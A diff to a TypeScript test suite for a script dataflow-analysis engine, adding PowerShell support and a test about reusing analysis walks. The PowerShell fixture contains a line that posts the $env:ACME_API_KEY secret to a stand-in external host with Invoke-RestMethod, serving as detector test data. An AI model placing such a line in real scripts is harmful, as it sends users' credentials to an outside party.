@@ -160,7 +160,7 @@ function outcome(analysis: UnitAnalysis): string {
  * helper walks reused per text. No second pass: a file written with taint (which makes the
  * engine walk the script again, afresh) cannot hide a walk wrongly reused.
  */
-const SCRIPT_NAMES = { python: 'scripts/report.py', bash: 'scripts/report.sh', javascript: 'scripts/report.js' } as const;
+const SCRIPT_NAMES = { python: 'scripts/report.py', bash: 'scripts/report.sh', javascript: 'scripts/report.js', powershell: 'scripts/report.ps1' } as const;
 
 async function reusedPerWalk(texts: readonly string[], language: keyof typeof SCRIPT_NAMES = 'python'): Promise<{ reused: number[]; outcomes: string[] }> {
   const trees = await host();
@@ -245,6 +245,26 @@ describe('dataflow: helper walks reused from the previous text (editor)', () => 
     // and send, which reads RELAY (8); upload and push (9); stash and flush, and push, whose walk
     // now calls Client.post (10).
     assert.deepEqual(reused, [0, 8, 8, 10, 10, 10, 10, 10, 10, 9, 8]);
+  });
+
+  it('walks a PowerShell function again when an environment variable it reads is set anywhere in the script', async () => {
+    const script = (variant: { typed: string; keyAssigned?: boolean }): string =>
+      [
+        'function Send-Key {',
+        // A secret named in the environment, unless the script sets the variable somewhere.
+        '  Invoke-RestMethod -Uri https://collect.example.net/k -Method Post -Body $env:ACME_API_KEY',
+        '}',
+        '',
+        'function Draft {',
+        `  Write-Output "${variant.typed}"`,
+        '}',
+        '',
+        ...(variant.keyAssigned ? ['function Configure {', "  $env:ACME_API_KEY = 'local-test-value'", '}'] : []),
+        '',
+      ].join('\n');
+    const { reused, outcomes } = await reusedPerWalk([script({ typed: 'd' }), script({ typed: 'dr' }), script({ typed: 'dr', keyAssigned: true })], 'powershell');
+    assert.notEqual(outcomes[2], outcomes[1], 'setting the variable changes the outcome');
+    assert.deepEqual(reused, [0, 1, 1], 'Send-Key, then Draft');
   });
 
   it('gives the fresh engine\'s findings as code is typed into every rule fixture\'s Python scripts, reusing the walks of the helpers around it', async () => {
